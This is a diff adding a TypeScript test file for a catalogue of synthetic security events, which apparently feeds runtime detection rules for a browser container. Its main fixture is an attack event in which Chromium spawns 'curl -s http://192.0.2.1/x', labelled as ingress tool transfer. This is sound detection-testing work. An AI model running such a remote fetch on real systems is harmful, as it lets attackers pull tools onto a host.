@@ -1,0 +1,166 @@
+// rules/events as it lies there: what is wrong with a line is said by file and line, and a line gives back
+// the event it was made from.
+import { gzipSync } from 'node:zlib';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { eventFiles, presets } from '#event-files';
+import { eventFiles as asNodeReads, presets as nodePresets } from '../cli/event-files.ts';
+import type { Fields } from '../evaluation/fields.ts';
+import { eventsRead, scenarios } from './catalogue.ts';
+import type { EventLine } from './event-line.ts';
+import { expandEvent } from './expand-event.ts';
+import { readEvents } from './read-events.ts';
+import { shortenEvent } from './shorten-event.ts';
+
+const good: EventLine = {
+  id: 'a',
+  title: 'curl run from a renderer',
+  like: 'execve in a browser session',
+  run: '/usr/bin/curl -s http://192.0.2.1/x',
+  below: 'renderer of chromium',
+  source: 'synthetic',
+  proves: 'tunnel-tool, 18 T1105',
+};
+
+const read = (line: object | string, path = 'x.jsonl') =>
+  readEvents(
+    [{ path, text: typeof line === 'string' ? line : `${JSON.stringify(line)}\n` }],
+    presets,
+  );
+
+const expandLine = (short: ReturnType<typeof shortenEvent>): Fields =>
+  expandEvent({ ...good, run: undefined, below: undefined, ...short } as EventLine, presets);
+
+describe('rules/events', () => {
+  it('is read without a fault, and alike by Node and by the site', () => {
+    expect(eventsRead().faults).toEqual([]);
+    expect(asNodeReads).toEqual(eventFiles);
+    expect(nodePresets).toEqual(presets);
+  });
+
+  it('weighs little on its way to a browser', () => {
+    const all = [JSON.stringify(presets), ...eventFiles.map(({ text }) => text)].join('');
+    expect(gzipSync(all).length).toBeLessThan(100_000);
+  });
+
+  it('holds no preset that is used by nothing', () => {
+    const lines = eventFiles
+      .flatMap(({ text }) => text.trim().split('\n'))
+      .map((line): EventLine => JSON.parse(line));
+    const programs = [...lines, ...Object.values(presets.programs)].map(({ below }) => below);
+    const used = new Set([...programs, ...lines.map(({ by }) => by)]);
+    expect(Object.keys(presets.programs).filter((one) => !used.has(one))).toEqual([]);
+    const like = lines.map((line) => line.like);
+    const unlike = (kind: 'calls' | 'places', fits: (line: string, name: string) => boolean) =>
+      Object.keys(presets[kind]).filter((name) => !like.some((line) => fits(line, name)));
+    expect(unlike('calls', (line, name) => line.startsWith(`${name} in `))).toEqual([]);
+    expect(unlike('places', (line, name) => line.endsWith(` in ${name}`))).toEqual([]);
+  });
+});
+
+describe('a line', () => {
+  it('says the event, its file whether it is an attack', () => {
+    const [attack] = read(good).scenarios;
+    expect(attack).toMatchObject({
+      id: 'a',
+      kind: 'attack',
+      expect: 'fires',
+      image: 'browser-rdp-bookworm',
+      capability: 'tunnel-tool',
+      threat: '18 T1105',
+    });
+    expect(attack?.fields).toMatchObject({
+      'evt.type': 'execve',
+      'container.name': 'rdp-chromium',
+      'proc.name': 'curl',
+      'proc.exepath': '/usr/bin/curl',
+      'proc.cmdline': 'curl -s http://192.0.2.1/x',
+      'proc.pname': 'chromium',
+      'proc.aname[2]': 'chromium',
+      'user.uid': 1000,
+      'evt.arg.args': '-s.http://192.0.2.1/x.',
+    });
+    const normal = read({ ...good, debatable: 'why', proves: 'exec' }, 'normal/x.jsonl');
+    expect(normal.scenarios[0]).toMatchObject({
+      kind: 'normal',
+      expect: 'silent',
+      group: 'exec',
+      debatable: true,
+      why: 'why',
+    });
+  });
+
+  it('goes before its presets, and null takes a field away', () => {
+    const fields = { 'proc.exe': 'x', 'container.name': null, 'evt.rawres': -13 };
+    const [event] = read({ ...good, as: 'root', fields }).scenarios;
+    expect(event?.fields).toMatchObject({ 'proc.exe': 'x', 'user.uid': 0, 'evt.failed': true });
+    expect(event?.fields).not.toHaveProperty('container.name');
+  });
+
+  it('names a connection once', () => {
+    const { run: _, ...line } = good;
+    const fields = { 'fd.name': '10.244.1.23:40112->[2001:db8::1]:443' };
+    const four = { 'fd.name': '10.244.1.23:40112->203.0.113.66:443' };
+    const like = 'connect over TCP in a browser session';
+    expect(read({ ...line, like, fields: four }).scenarios[0]?.fields).toMatchObject({
+      'fd.sip': '203.0.113.66',
+      'fd.rport': 443,
+      'fd.sproto': '443',
+      'fd.typechar': '4',
+      'evt.arg.addr': '203.0.113.66:443',
+    });
+    expect(read({ ...line, like, fields }).faults).toEqual([]);
+  });
+
+  it.each<[string, object | string, string]>([
+    ['no JSON', '{', 'x.jsonl:1: not read as JSON'],
+    ['no object', '[]', 'x.jsonl:1: not an object'],
+    ['no id', { ...good, id: undefined }, '"id" is missing'],
+    ['an id that is no text', { ...good, id: 1 }, '"id" is no text'],
+    [
+      'a slip in a key',
+      { ...good, titles: 'x' },
+      '"titles" is no key of an event; is "title" meant?',
+    ],
+    ['an unknown source', { ...good, source: 'guessed' }, 'recorded, derived, synthetic'],
+    ['two actors', { ...good, by: 'tini' }, '"by" and "run"'],
+    ['an unknown call', { ...good, like: 'exceve in a browser session' }, 'is "execve" meant?'],
+    ['an unknown place', { ...good, like: 'execve in a browser' }, '"a browser session" meant?'],
+    ['no place', { ...good, like: 'execve' }, 'no place ""'],
+    ['an unknown user', { ...good, as: 'rooot' }, 'no user "rooot"; is "root" meant?'],
+    ['an unknown parent', { ...good, below: 'constructor' }, 'no program "constructor"'],
+    ['a list of fields', { ...good, fields: [] }, '"fields" is no object'],
+    ['an object as a value', { ...good, fields: { 'proc.name': {} } }, '"proc.name" has no value'],
+    ['a number in words', { ...good, pid: '1' }, '"pid" is no number'],
+  ])('is refused with %s', (_, line, message) => {
+    const { scenarios: none, faults } = read(line);
+    expect(none).toEqual([]);
+    expect(faults.join('\n')).toContain(message);
+  });
+
+  it('is refused where its id is taken', () => {
+    const text = `${JSON.stringify(good)}\n${JSON.stringify(good)}\n`;
+    const { scenarios: one, faults } = readEvents([{ path: 'x.jsonl', text }], presets);
+    expect(one).toHaveLength(1);
+    expect(faults).toEqual(['x.jsonl:2: the id "a" is taken, in x.jsonl']);
+  });
+});
+
+describe('an event', () => {
+  const event = fc.constantFrom(...scenarios()).map(({ fields }) => fields);
+  const value = fc.oneof(fc.string(), fc.integer(), fc.boolean());
+  const name = fc.constantFrom(
+    ...new Set(scenarios().flatMap(({ fields }) => Object.keys(fields))),
+    'proc.env',
+  );
+
+  it('is what its shortest line expands to, whatever is altered of it', () => {
+    fc.assert(
+      fc.property(event, fc.dictionary(name, value, { maxKeys: 4 }), name, (one, more, less) => {
+        const { [less]: _, ...altered } = { ...one, ...more };
+        expect(expandLine(shortenEvent(altered, presets))).toEqual(altered);
+      }),
+      { numRuns: 60 },
+    );
+  });
+});
